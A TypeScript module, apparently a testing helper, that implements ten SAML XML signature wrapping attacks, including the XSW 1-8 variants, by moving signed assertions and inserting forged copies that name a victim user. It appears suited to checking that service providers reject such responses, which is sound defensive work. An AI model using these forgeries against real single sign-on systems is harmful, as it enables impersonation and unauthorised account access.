import { DOMParser } from '@xmldom/xmldom';

/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012), in the eight variants of
 * SAML Raider: the signed element is moved, and a forged one takes its place.
 */
export const wrappings = {
  /** The forged response keeps the signature, which contains the signed response. */
  'XSW 1': (doc) => {
    const [evil, signature] = [doc.documentElement, signatureOf(doc.documentElement)];
    const good = without(evil.cloneNode(true) as Element);
    become(evil, '_evil-response');
    signature.appendChild(good);
  },
  /** The signed response precedes its removed signature. */
  'XSW 2': (doc) => {
    const [evil, signature] = [doc.documentElement, signatureOf(doc.documentElement)];
    const good = without(evil.cloneNode(true) as Element);
    become(evil, '_evil-response');
    evil.insertBefore(good, signature);
  },
  /** A forged assertion precedes the signed one. */
  'XSW 3': (doc) => {
    const good = assertionOf(doc);
    const evil = become(without(good.cloneNode(true) as Element), '_evil-assertion');
    doc.documentElement.insertBefore(evil, good);
  },
  /** The forged assertion contains the signed one. */
  'XSW 4': (doc) => {
    const good = assertionOf(doc);
    const evil = become(without(good.cloneNode(true) as Element), '_evil-assertion');
    doc.documentElement.appendChild(evil);
    evil.appendChild(good);
  },
  /** The forged assertion keeps the signature; the signed one follows it. */
  'XSW 5': (doc) => {
    const evil = assertionOf(doc);
    const good = without(evil.cloneNode(true) as Element);
    become(evil, '_evil-assertion');
    doc.documentElement.appendChild(good);
  },
  /** The forged assertion keeps the signature, which contains the signed one. */
  'XSW 6': (doc) => {
    const evil = assertionOf(doc);
    const good = without(evil.cloneNode(true) as Element);
    become(evil, '_evil-assertion');
    signatureOf(evil).appendChild(good);
  },
  /** An extension element, whose content is free, contains a forged assertion with the id of the signed one. */
  'XSW 7': (doc) => {
    const good = assertionOf(doc);
    const evil = become(without(good.cloneNode(true) as Element));
    const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil);
    doc.documentElement.insertBefore(extensions, good);
  },
  /** The forged assertion keeps the signature, and an object in it contains the signed one. */
  'XSW 8': (doc) => {
    const evil = assertionOf(doc);
    const good = without(evil.cloneNode(true) as Element);
    become(evil);
    const object = doc.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    object.appendChild(good);
    signatureOf(evil).appendChild(object);
  },
  /** As 3, with the id of the signed one, and after it. */
  'two assertions of one id': (doc) => {
    const good = assertionOf(doc);
    doc.documentElement.appendChild(become(without(good.cloneNode(true) as Element)));
  },
  /** The forged assertion has another name than the one that a careless parser counts. */
  'an assertion within an encrypted one': (doc) => {
    const good = assertionOf(doc);
    const evil = become(without(good.cloneNode(true) as Element), '_evil-assertion');
    const wrapper = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:assertion', 'saml:EncryptedAssertion');
    wrapper.appendChild(evil);
    doc.documentElement.insertBefore(wrapper, good);
  },
} satisfies Record<string, (doc: Document) => void>;

/** The name in the forged element. */
export const evilName = 'the-name-of-a-victim';
export const evilAddress = 'victim@corp.acme.example';

export function wrap(xml: string, how: keyof typeof wrappings): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
  wrappings[how](doc);
  return String(doc);
}

const assertionOf = (doc: Document) => doc.getElementsByTagNameNS('*', 'Assertion')[0] as Element;
const signatureOf = (element: Element) =>
  Array.from(element.childNodes as unknown as ArrayLike<Element>).find(
    ({ localName }) => localName === 'Signature',
  ) as Element;

function without(element: Element): Element {
  element.removeChild(signatureOf(element));
  return element;
}

function become(element: Element, id?: string): Element {
  if (id !== undefined) element.setAttribute('ID', id);
  const name = element.getElementsByTagNameNS('*', 'NameID')[0] as Element;
  name.textContent = evilName;
  const values = Array.from(element.getElementsByTagNameNS('*', 'AttributeValue') as unknown as ArrayLike<Element>);
  for (const value of values) if (value.textContent?.includes('@')) value.textContent = evilAddress;
  return element;
}
